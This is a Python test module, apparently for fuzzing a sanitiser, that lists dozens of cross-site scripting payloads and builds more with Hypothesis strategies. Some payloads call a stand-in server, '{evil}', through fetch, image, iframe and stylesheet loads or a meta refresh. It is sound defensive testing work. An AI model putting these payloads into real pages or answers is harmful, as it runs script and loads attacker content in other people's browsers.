"""What would somebody write into an answer to run a script or to load something in another person's browser?

Written for this project: the list has one of each way in that HTML, Markdown and addresses offer; the grammar combines
them. `{evil}` is the address of a server of ours that counts who comes. Each calls `alert`, or asks that server.
"""

from hypothesis import strategies as st

FIXED = (
    "<script>alert(1)</script>",
    "<script src={evil}/a.js></script>",
    "<SCRIPT/SRC='{evil}/b.js'></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<img src=x onerror=alert(3)>",
    "<img src='{evil}/c.png'>",
    '<img/src="x"/onerror="alert`4`">',
    "<svg onload=alert(5)>",
    "<svg><script>alert(6)</script></svg>",
    "<svg><a xlink:href=javascript:alert(7)><text y=20>go</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>",
    "<iframe src={evil}/d></iframe>",
    "<iframe src=javascript:alert(10)></iframe>",
    "<object data={evil}/e></object><embed src={evil}/f>",
    "<video src={evil}/g onerror=alert(11) autoplay></video><audio src={evil}/h></audio>",
    "<input autofocus onfocus=alert(12)>",
    "<details open ontoggle=alert(13)>x</details>",
    "<body onload=alert(14)><style>@import '{evil}/i.css';</style>",
    "<p style=\"background:url('{evil}/j.png')\">x</p>",
    "<link rel=stylesheet href={evil}/k.css>",
    "<base href='{evil}/'>",
    "<form action={evil}/l><button formaction=javascript:alert(15)>x</button></form>",
    '"><script>alert(16)</script>',
    "'><img src=x onerror=alert(17)>",
    "</title><script>alert(18)</script>",
    "</textarea><script>alert(19)</script>",
    "</script><script>alert(20)</script>",
    "<!--><script>alert(21)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(22)>'>",
    "[go](javascript:alert(23))",
    "[go](JaVaScRiPt:alert(24))",
    "[go](&#106;avascript&colon;alert(25))",
    "[go](java\tscript:alert(26))",
    "[go](data:text/html,<script>alert(27)</script>)",
    "[go](vbscript:alert(28))",
    '[x](https://a.example/"onmouseover="alert(29))',
    "![x]({evil}/m.png)",
    "<javascript:alert(30)>",
    "[x]: javascript:alert(31)\n\n[x]",
    "**<b onclick=alert(32)>x</b>**",
    "&lt;script&gt;alert(33)&lt;/script&gt;",
    "\u202e<script>alert(34)</script>",
    "{{ 7|add:7 }}{% csrf_token %}${alert(35)}",
)
LEAVES = "<meta http-equiv=refresh content='0;url={evil}/n'>"
"""No policy of ours forbids to be led elsewhere: against it the sanitiser stands alone."""
ADDRESSES = (
    "javascript:alert(40)",
    "data:text/html,<script>alert(41)</script>",
    "JAVASCRIPT:alert(42)",
    " javascript:alert(43)",
)

_acts = st.sampled_from(["alert(50)", "alert`51`", "fetch('{evil}/z')", "new(Image)().src='{evil}/y'"])
_events = st.sampled_from(["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "OnPointerOver"])
_tags = st.sampled_from(
    ["img src=x", "svg", "video src=x", "input autofocus", "details open", "style", "a href=x", "p"]
)
_gaps = st.sampled_from([" ", "/", "\n", "\t", "\f"])
_quotes = st.sampled_from(["", "'", '"'])
_breaks = st.sampled_from(["", '">', "'>", "</p>", "</script>", "-->", "]]>", "\n\n> ", "- ", "`", "\\"])
_schemes = st.sampled_from(
    [
        "javascript:",
        "JAVASCRIPT:",
        "java\nscript:",
        "&#x6A;avascript:",
        "data:text/html;base64,",
        "//",
        "\x01javascript:",
    ]
)


@st.composite
def _element(draw: st.DrawFn) -> str:
    quote = draw(_quotes)
    act = draw(_acts).replace("'", "`") if quote == "'" else draw(_acts)
    return f"{draw(_breaks)}<{draw(_tags)}{draw(_gaps)}{draw(_events)}={quote}{act}{quote}>"


@st.composite
def _link(draw: st.DrawFn) -> str:
    return f"{draw(_breaks)}[go]({draw(_schemes)}{draw(_acts)})"


attacks = st.one_of(_element(), _link(), st.tuples(st.sampled_from(FIXED), _element()).map("".join))
